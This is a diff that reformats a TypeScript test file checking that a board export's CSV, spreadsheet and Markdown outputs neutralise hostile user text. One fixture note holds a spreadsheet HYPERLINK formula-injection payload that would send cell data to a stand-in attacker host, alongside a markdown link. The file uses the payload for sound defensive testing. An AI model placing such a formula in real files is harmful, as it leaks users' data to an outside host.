@@ -3,7 +3,7 @@ import { join } from 'node:path';
 import MarkdownIt from 'markdown-it';
 import type Token from 'markdown-it/lib/token.mjs';
 import * as XLSX from 'xlsx';
-import { BoardData, countItems, renderBoard } from './board-export';
+import { type BoardData, countItems, renderBoard } from './board-export';
 import type { ExportFormat } from '../../../../contracts/jobs';
 
 const ada = { id: '11111111-1111-4111-8111-111111111111', username: 'ada', displayName: 'Ada Lovelace' };
@@ -11,15 +11,63 @@ const grace = { id: '22222222-2222-4222-8222-222222222222', username: 'grace', d
 
 /** A known board: the golden files in ./golden are its expected exports. */
 export const KNOWN_BOARD: BoardData = {
-  board: { id: 'b0a7d000-0000-4000-8000-000000000001', title: 'Sprint Retro: Q4', ownerId: ada.id, members: [ada, grace], createdAt: '2026-11-01T09:00:00.000Z' },
+  board: {
+    id: 'b0a7d000-0000-4000-8000-000000000001',
+    title: 'Sprint Retro: Q4',
+    ownerId: ada.id,
+    members: [ada, grace],
+    createdAt: '2026-11-01T09:00:00.000Z',
+  },
   notes: [
-    { id: 'a0000000-0000-4000-8000-000000000001', boardId: 'b0a7d000-0000-4000-8000-000000000001', text: 'Ship the "realtime" core', x: 40, y: 60.5, color: 'yellow', version: 3, createdBy: ada.id, updatedAt: '2026-11-01T09:10:00.000Z' },
-    { id: 'a0000000-0000-4000-8000-000000000002', boardId: 'b0a7d000-0000-4000-8000-000000000001', text: 'Fewer meetings,\nmore boards', x: 300, y: 60, color: 'pink', version: 1, createdBy: grace.id, updatedAt: '2026-11-01T09:12:00.000Z' },
-    { id: 'a0000000-0000-4000-8000-000000000003', boardId: 'b0a7d000-0000-4000-8000-000000000001', text: '=HYPERLINK("http://evil.example/?"&A1,"click")\n# Not a heading, [not a link](http://evil.example)', x: -20, y: 0, color: 'blue', version: 1, createdBy: grace.id, updatedAt: '2026-11-01T09:13:00.000Z' },
+    {
+      id: 'a0000000-0000-4000-8000-000000000001',
+      boardId: 'b0a7d000-0000-4000-8000-000000000001',
+      text: 'Ship the "realtime" core',
+      x: 40,
+      y: 60.5,
+      color: 'yellow',
+      version: 3,
+      createdBy: ada.id,
+      updatedAt: '2026-11-01T09:10:00.000Z',
+    },
+    {
+      id: 'a0000000-0000-4000-8000-000000000002',
+      boardId: 'b0a7d000-0000-4000-8000-000000000001',
+      text: 'Fewer meetings,\nmore boards',
+      x: 300,
+      y: 60,
+      color: 'pink',
+      version: 1,
+      createdBy: grace.id,
+      updatedAt: '2026-11-01T09:12:00.000Z',
+    },
+    {
+      id: 'a0000000-0000-4000-8000-000000000003',
+      boardId: 'b0a7d000-0000-4000-8000-000000000001',
+      text: '=HYPERLINK("http://evil.example/?"&A1,"click")\n# Not a heading, [not a link](http://evil.example)',
+      x: -20,
+      y: 0,
+      color: 'blue',
+      version: 1,
+      createdBy: grace.id,
+      updatedAt: '2026-11-01T09:13:00.000Z',
+    },
   ],
   messages: [
-    { id: '1761987600000-0', roomId: 'board:b0a7d000-0000-4000-8000-000000000001', userId: ada.id, content: 'Morning! @grace have a look', createdAt: '2026-11-01T09:00:00.000Z' },
-    { id: '1761987660000-0', roomId: 'board:b0a7d000-0000-4000-8000-000000000001', userId: grace.id, content: 'On it', createdAt: '2026-11-01T09:01:00.000Z' },
+    {
+      id: '1761987600000-0',
+      roomId: 'board:b0a7d000-0000-4000-8000-000000000001',
+      userId: ada.id,
+      content: 'Morning! @grace have a look',
+      createdAt: '2026-11-01T09:00:00.000Z',
+    },
+    {
+      id: '1761987660000-0',
+      roomId: 'board:b0a7d000-0000-4000-8000-000000000001',
+      userId: grace.id,
+      content: 'On it',
+      createdAt: '2026-11-01T09:01:00.000Z',
+    },
   ],
 };
 
@@ -85,7 +133,9 @@ describe('board export of hostile text', () => {
     expect(cells.length).toBe(CSV_COLUMNS_COUNT * (HOSTILE.notes.length + 1));
     for (const [ref, cell] of cells) {
       expect({ ref, formula: cell.f }).toEqual({ ref, formula: undefined });
-      if (cell.t === 's') expect(`${ref} ${String(cell.v)}`).not.toMatch(/^\w+ [=+\-@\t\r]/);
+      if (cell.t === 's') {
+        expect(`${ref} ${String(cell.v)}`).not.toMatch(/^\w+ [=+\-@\t\r]/);
+      }
     }
     HOSTILE.notes.forEach((note, i) => {
       const row = i + 2;
@@ -94,12 +144,26 @@ describe('board export of hostile text', () => {
     });
   });
 
-  it('Markdown renders users\' text as text: only our own headings, no links, images, HTML, lists or rules', async () => {
+  it("Markdown renders users' text as text: only our own headings, no links, images, HTML, lists or rules", async () => {
     const file = await renderBoard(HOSTILE, 'markdown', EXPORTED_AT, async () => undefined);
     const tokens = flatten(new MarkdownIt({ html: true }).parse(file.body, {}));
     const headings = tokens.filter((t) => t.type === 'heading_open').map((t) => t.tag);
     expect(headings).toEqual(['h1', 'h2', ...HOSTILE.notes.map(() => 'h3'), 'h2']);
-    const forbidden = ['link_open', 'image', 'html_block', 'html_inline', 'ordered_list_open', 'hr', 'table_open', 'fence', 'code_block', 'code_inline', 'strong_open', 'em_open', 's_open'];
+    const forbidden = [
+      'link_open',
+      'image',
+      'html_block',
+      'html_inline',
+      'ordered_list_open',
+      'hr',
+      'table_open',
+      'fence',
+      'code_block',
+      'code_inline',
+      'strong_open',
+      'em_open',
+      's_open',
+    ];
     // Our own markup: the chat list and its bold author.
     const ours = tokens.filter((t) => forbidden.includes(t.type));
     expect(ours.map((t) => t.type)).toEqual(['strong_open']);
@@ -125,14 +189,23 @@ function blockquoteTexts(tokens: Token[]): string[] {
   const texts: string[] = [];
   let depth = 0;
   for (const token of tokens) {
-    if (token.type === 'blockquote_open' && depth++ === 0) texts.push('');
-    else if (token.type === 'blockquote_close') depth--;
-    else if (depth > 0 && (token.type === 'text' || token.type === 'text_special')) texts[texts.length - 1] += token.content;
-    else if (depth > 0 && (token.type === 'softbreak' || token.type === 'paragraph_close')) texts[texts.length - 1] += '\n';
+    if (token.type === 'blockquote_open' && depth++ === 0) {
+      texts.push('');
+    } else if (token.type === 'blockquote_close') {
+      depth--;
+    } else if (depth > 0 && (token.type === 'text' || token.type === 'text_special')) {
+      texts[texts.length - 1] += token.content;
+    } else if (depth > 0 && (token.type === 'softbreak' || token.type === 'paragraph_close')) {
+      texts[texts.length - 1] += '\n';
+    }
   }
   return texts.map(readable);
 }
 
 function readable(text: string): string {
-  return text.split(/\r\n?|\n/).map((line) => line.trim()).filter(Boolean).join('\n');
+  return text
+    .split(/\r\n?|\n/)
+    .map((line) => line.trim())
+    .filter(Boolean)
+    .join('\n');
 }
